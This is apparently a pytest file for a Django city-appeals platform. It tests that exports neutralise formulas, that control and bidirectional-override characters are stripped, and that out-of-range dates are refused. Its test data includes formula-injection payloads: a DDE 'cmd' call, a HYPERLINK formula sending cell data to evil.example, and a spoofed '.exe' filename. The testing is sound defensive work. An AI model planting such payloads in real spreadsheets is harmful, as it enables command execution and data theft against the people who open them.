"""Input hygiene at every edge (ADR 0011): exports never write formulas and survive whatever is
stored; control characters and bidirectional overrides are stripped on every channel (API,
Open311, hotline, pages, MQTT alarms); dates outside their window are refused naming the field,
and stored ones are repaired by a data migration; NUL is refused by every page."""

import datetime
import importlib
import io
import json
import re
from types import SimpleNamespace

import openpyxl
import pytest
from django.apps import apps as django_apps
from django.db import connection
from django.db.models import F, Value
from django.db.models.functions import Concat
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from shanzhi.core.models import AuditEvent
from shanzhi.core.selectors import audit_chain_verify
from shanzhi.core.services import api_token_create
from shanzhi.interop.models import Alarm, HotlineOrder
from shanzhi.interop.tests.test_alarms import receive
from shanzhi.interop.tests.test_hotline import make_platform
from shanzhi.interop.tests.test_hotline import order as hotline_order
from shanzhi.org.models import Unit
from shanzhi.workorders.models import Appeal, WorkOrder
from shanzhi.workorders.tests.helpers import PHONE, ROAD_DAMAGE, appeal_body, point_in, post
from shanzhi.workorders.tests.test_pages import form_data

pytestmark = pytest.mark.django_db

DIRTY = "路\x01面\x1b塌\u202e陷\u2066\x7f\x85"  # C0, ESC, RLO, LRI, DEL, NEL
CLEAN = "路面塌陷"
DIRTY_LINES = "第一行\r\n第二行\r第三行\t（完）\x07"
CLEAN_LINES = "第一行\n第二行\n第三行\t（完）"


# -- exports: never a formula, robust to what is stored ---------------------------------------


def _export_urls() -> list[str]:
    """Every export the URL resolver knows (a new one is covered automatically)."""
    found = []

    def walk(patterns, prefix=""):
        for entry in patterns:
            route = prefix + str(entry.pattern)
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, route)
            elif isinstance(entry, URLPattern) and re.search(r"\.(xlsx|csv)$", route):
                found.append("/" + route)

    walk(get_resolver().url_patterns)
    return found


def test_the_resolver_finds_the_exports():
    assert set(_export_urls()) >= {"/command/export/orders.xlsx", "/command/export/kpis.xlsx"}


def _cells(response):
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [c for row in book.active.iter_rows() for c in row if c.value is not None]


HOSTILE = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")': (
        '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    ),
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'=1+1",
    "a\x01b\x0bc": "abc",  # the old 500: openpyxl refuses C0 controls
    "x\u202egpj.exe": "xgpj.exe",
}


@pytest.mark.parametrize("persona", ["dispatcher", "commander", "leader"])
def test_every_export_writes_stored_text_as_inert_strings(client_as, persona):
    client = client_as(persona)
    orders = list(WorkOrder.objects.order_by("-registered_at")[: len(HOSTILE)])
    for order, title in zip(orders, HOSTILE, strict=True):  # written straight into the database
        WorkOrder.objects.filter(pk=order.pk).update(title=title)
    Unit.objects.update(name=Concat(Value("=1+"), F("name")))
    for url in _export_urls():
        cells = _cells(client.get(url))
        assert cells, url
        assert all(c.data_type in ("s", "n", "d") for c in cells), url
        for c in cells:
            if c.data_type == "s":
                assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), (url, c.value)
                assert not re.search(r"[\x00-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069]", c.value)
        values = {c.value for c in cells}
        if url.endswith("kpis.xlsx"):
            assert any(v.startswith("'=1+") for v in values if isinstance(v, str)), url
    cells = _cells(client.get("/command/export/orders.xlsx"))
    by_code = {}
    for c in cells:
        if c.column == 1:
            by_code[c.value] = c.row
    titles = {c.row: c for c in cells if c.column == 6}
    shown = [o for o in orders if o.code in by_code]
    assert shown, "the persona sees some of the orders"
    for order in shown:
        cell = titles[by_code[order.code]]
        stored = WorkOrder.objects.get(pk=order.pk).title
        assert cell.data_type == "s" and cell.value == HOSTILE[stored]


# -- control characters and bidirectional overrides on every channel ----------------------------


def test_api_appeal_is_stored_clean(client_as):
    status, body = post(
        client_as("operator"),
        "/api/v1/appeals",
        appeal_body(
            title=DIRTY,
            content=DIRTY_LINES,
            appellant_name="李\x1b四\u202e",
            address="湖州\x02市",
        ),
    )
    assert status == 201, body
    appeal = Appeal.objects.get(tracking_code=body["tracking_code"])
    assert (appeal.title, appeal.content) == (CLEAN, CLEAN_LINES)
    assert (appeal.appellant_name, appeal.address) == ("李四", "湖州市")
    order = appeal.work_order
    assert (order.title, order.content) == (CLEAN, CLEAN_LINES)


def test_api_action_text_is_stored_clean(client_as):
    operator = client_as("operator")
    status, body = post(operator, "/api/v1/appeals", appeal_body())
    assert status == 201
    order_id = body["work_order_id"]
    dispatcher = client_as("dispatcher")
    housing = Unit.objects.get(name="吴兴区住房和城乡建设局")
    status, body = post(
        dispatcher,
        f"/api/v1/workorders/{order_id}/actions/dispatch",
        {"lead_unit": housing.pk, "note": "请\u202e尽快\x08处理"},
    )
    assert status == 200, body
    assert "请尽快处理" in [e["reason"] for e in body["timeline"]]


def test_api_text_cleaned_to_nothing_is_missing(client_as, table_counts):
    counts = table_counts()
    status, body = post(client_as("operator"), "/api/v1/appeals", appeal_body(content="\x01\u202e"))
    assert status == 400 and body["errors"][0]["field"] == "content"
    assert table_counts() == counts


def test_open311_post_is_stored_clean(client, user_named):
    key = api_token_create(user=user_named("operator"), name="open311 client")
    lon, lat = point_in()
    response = client.post(
        "/open311/v2/requests.json",
        {
            "api_key": key,
            "service_code": ROAD_DAMAGE,
            "lat": str(lat),
            "long": str(lon),
            "description": DIRTY_LINES,
            "last_name": "李\x01",
            "first_name": "四\u202e",
            "phone": PHONE,
            "address_string": "湖州\x1b市",
        },
    )
    assert response.status_code == 200, response.content
    order_id = int(json.loads(response.content)[0]["service_request_id"])
    appeal = Appeal.objects.get(work_order_id=order_id)
    assert (appeal.content, appeal.appellant_name, appeal.address) == (
        CLEAN_LINES,
        "李四",
        "湖州市",
    )


def test_hotline_push_is_stored_clean(client):
    hotline = make_platform()
    body = hotline_order(title=DIRTY, content=DIRTY_LINES, appellant_name="李\u2067四")
    response = client.post(
        "/api/v1/inbound/hotline",
        json.dumps(body),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {hotline.token}",
    )
    assert response.status_code == 201, response.content
    appeal = HotlineOrder.objects.get(external_no=body["order_no"]).appeal
    assert (appeal.title, appeal.content, appeal.appellant_name) == (CLEAN, CLEAN_LINES, "李四")


def test_page_form_is_stored_clean(client):
    response = client.post(
        "/appeal/", form_data(title=DIRTY, content=DIRTY_LINES, appellant_name="李\x1b四")
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    appeal = Appeal.objects.order_by("-pk").first()
    assert (appeal.title, appeal.content, appeal.appellant_name) == (CLEAN, CLEAN_LINES, "李四")


def test_page_form_text_cleaned_to_nothing_is_required(client, table_counts):
    counts = table_counts()
    response = client.post("/appeal/", form_data(content="\x01\x02\u202e"))
    assert response.status_code == 400
    assert "此字段是必填项" in response.content.decode() or "必填" in response.content.decode()
    assert table_counts() == counts


def test_mqtt_alarm_is_stored_clean():
    received = receive(message="烟雾\x01浓度\u202e超限", unit="dB\x07/m")
    alarm = Alarm.objects.get(pk=received.alarm.pk)
    assert (alarm.message, alarm.unit) == ("烟雾浓度超限", "dB/m")


# -- dates: a window per field, the field named, nothing stored ---------------------------------

EXTREME_MOMENTS = [
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "1999-12-31T23:59:59+08:00",
    "0",
    "1700000000",
]


@pytest.mark.parametrize(
    "query",
    [
        "date_to=9999-12-31",
        "date_from=0001-01-01",
        "date_to=0",
        "date_from=1999-12-31",
        "date_to=20261122",
    ],
)
def test_api_list_refuses_dates_outside_the_window(api_as, query):
    status, body = api_as("dispatcher").get("/api/v1/workorders?" + query)
    field = query.split("=")[0]
    assert status == 422 and [e["field"] for e in body["errors"]] == [field]
    assert field in body["errors"][0]["message"]


@pytest.mark.parametrize("query", ["date_to=9999-12-31", "date_from=0001-01-01", "date_to=0"])
@pytest.mark.parametrize("url", ["/workorders/", "/command/export/orders.xlsx"])
def test_pages_refuse_dates_outside_the_window(client_as, url, query):
    response = client_as("dispatcher").get(url + "?" + query)
    assert response.status_code == 400
    assert "alert-danger" in response.content.decode() or "invalid" in response.content.decode()


def test_page_filter_names_the_window(client_as):
    response = client_as("dispatcher").get("/workorders/?date_to=9999-12-31")
    assert "超出允许范围" in response.content.decode()


def test_a_date_inside_the_window_is_accepted(api_as):
    today = timezone.localdate()
    status, _ = api_as("dispatcher").get(f"/api/v1/workorders?date_from=2000-01-01&date_to={today}")
    assert status == 200


@pytest.mark.parametrize("moment", [*EXTREME_MOMENTS, "future"])
def test_api_appeal_refuses_occurred_at_outside_the_window(client_as, table_counts, moment):
    if moment == "future":
        moment = (timezone.now() + datetime.timedelta(hours=1)).isoformat()
    counts = table_counts()
    status, body = post(client_as("operator"), "/api/v1/appeals", appeal_body(occurred_at=moment))
    assert status == 422, body
    assert [e["field"] for e in body["errors"]] == ["occurred_at"]
    assert "occurred_at" in body["errors"][0]["message"]
    assert table_counts() == counts


def test_api_appeal_accepts_a_recent_occurred_at(client_as):
    moment = (timezone.now() - datetime.timedelta(days=3)).isoformat()
    status, body = post(client_as("operator"), "/api/v1/appeals", appeal_body(occurred_at=moment))
    assert status == 201, body


@pytest.mark.parametrize(
    ("field", "moment"),
    [(f, m) for f in ("occurred_at", "deadline") for m in EXTREME_MOMENTS]
    + [("occurred_at", "2999-01-01T00:00:00+08:00"), ("deadline", "2999-01-01T00:00:00+08:00")],
)
def test_hotline_refuses_times_outside_the_window(client, table_counts, field, moment):
    hotline = make_platform()
    counts = table_counts()
    response = client.post(
        "/api/v1/inbound/hotline",
        json.dumps(hotline_order(**{field: moment})),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {hotline.token}",
    )
    assert response.status_code == 422, response.content
    body = response.json()
    assert [e["field"] for e in body["errors"]] == [field]
    assert field in body["errors"][0]["message"]
    assert table_counts() == counts


@pytest.mark.parametrize("moment", ["9999-12-31T23:59", "0001-01-01T00:00", "1999-01-01"])
def test_staff_page_refuses_occurred_at_outside_the_window(client_as, table_counts, moment):
    counts = table_counts()
    response = client_as("operator").post(
        "/workorders/new/", form_data(channel="hotline", occurred_at=moment)
    )
    assert response.status_code == 400
    assert "超出允许范围" in response.content.decode()
    assert table_counts() == counts


@pytest.mark.parametrize(
    "query",
    [
        "start_date=0001-01-01T00:00:00%2B23:59",
        "end_date=9999-12-31T23:59:59-23:59",
        "start_date=1999-12-31T00:00:00Z",
    ],
)
def test_open311_refuses_dates_outside_the_window(client, query):
    response = client.get("/open311/v2/requests.json?" + query)
    assert response.status_code == 400
    assert "out of range" in response.json()[0]["description"]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("period=custom&from=2026-01-01&to=9999-12-31", "to"),
        ("period=custom&from=0001-01-01&to=2026-01-01", "from"),
        ("period=day&date=9999-12-31", "date"),
    ],
)
def test_kpi_api_refuses_periods_outside_the_window(api_as, query, field):
    status, body = api_as("leader").get("/api/v1/command/kpis?" + query)
    assert status == 400 and body["errors"][0]["field"] == field


# -- the data migration ---------------------------------------------------------------------


def _store_raw(table: str, column: str, pk: int, value: str) -> None:
    """Write a value the edge now refuses, as the old code did (straight SQL)."""
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE {table} SET {column} = %s WHERE id = %s", [value, pk])  # noqa: S608


def _migration(app: str, name: str):
    return importlib.import_module(f"shanzhi.{app}.migrations.{name}")


def test_the_migration_clears_out_of_range_times_and_records_it(client_as, client):
    pg = connection.vendor == "postgresql"
    status, body = post(client_as("operator"), "/api/v1/appeals", appeal_body())
    far, bc = (
        ("10000-01-01 00:00:00+00", "0002-01-01 00:00:00+00 BC")
        if pg
        else ("9999-12-31 23:59:59", "0001-01-01 00:00:00")
    )
    recent = Appeal.objects.exclude(tracking_code=body["tracking_code"]).order_by("-pk").first()
    target = Appeal.objects.get(tracking_code=body["tracking_code"])
    _store_raw("workorders_appeal", "occurred_at", target.pk, far)
    _store_raw("workorders_appeal", "occurred_at", recent.pk, bc)
    good = timezone.now() - datetime.timedelta(days=1)
    kept = Appeal.objects.exclude(pk__in=[target.pk, recent.pk]).order_by("pk").first()
    Appeal.objects.filter(pk=kept.pk).update(occurred_at=good)
    hotline = make_platform()
    response = client.post(
        "/api/v1/inbound/hotline",
        json.dumps(hotline_order()),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {hotline.token}",
    )
    assert response.status_code == 201
    handed = HotlineOrder.objects.get()
    _store_raw("interop_hotlineorder", "deadline", handed.pk, far)
    events = AuditEvent.objects.count()

    schema_editor = SimpleNamespace(connection=connection)
    repaired = _migration("workorders", "0010_repair_out_of_range_dates").repair_occurred_at(
        django_apps, schema_editor
    )
    assert sorted(pk for pk, _ in repaired) == sorted([target.pk, recent.pk])
    repaired = _migration("interop", "0003_repair_out_of_range_dates").repair_deadline(
        django_apps, schema_editor
    )
    assert [pk for pk, _ in repaired] == [handed.pk]

    assert Appeal.objects.get(pk=target.pk).occurred_at is None
    assert Appeal.objects.get(pk=recent.pk).occurred_at is None
    assert Appeal.objects.get(pk=kept.pk).occurred_at == good
    assert HotlineOrder.objects.get(pk=handed.pk).deadline is None
    recorded = AuditEvent.objects.filter(pk__gt=0).order_by("-pk")[:3]
    assert AuditEvent.objects.count() == events + 3
    assert {e.action for e in recorded} == {"appeal.date_repaired", "hotlineorder.date_repaired"}
    assert audit_chain_verify().ok
    dispatcher = client_as("dispatcher")
    order_id = target.work_order_id
    assert dispatcher.get(f"/api/v1/workorders/{order_id}").status_code == 200
    assert dispatcher.get(f"/workorders/{order_id}/").status_code == 200
    # run again: nothing left to repair
    assert (
        _migration("workorders", "0010_repair_out_of_range_dates").repair_occurred_at(
            django_apps, schema_editor
        )
        == []
    )


@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59"])
def test_a_datetime_answer_outside_the_window_is_refused(client_as, table_counts, moment):
    from shanzhi.workorders.models import Category, ServiceAttribute

    ServiceAttribute.objects.create(
        category=Category.objects.get(code=ROAD_DAMAGE),
        code="SEEN",
        datatype="datetime",
        description="发现时间",
    )
    counts = table_counts()
    status, body = post(
        client_as("operator"), "/api/v1/appeals", appeal_body(attributes={"SEEN": moment})
    )
    assert status == 400 and body["errors"][0]["field"] == "attribute[SEEN]"
    assert "超出允许范围" in body["detail"]
    assert table_counts() == counts
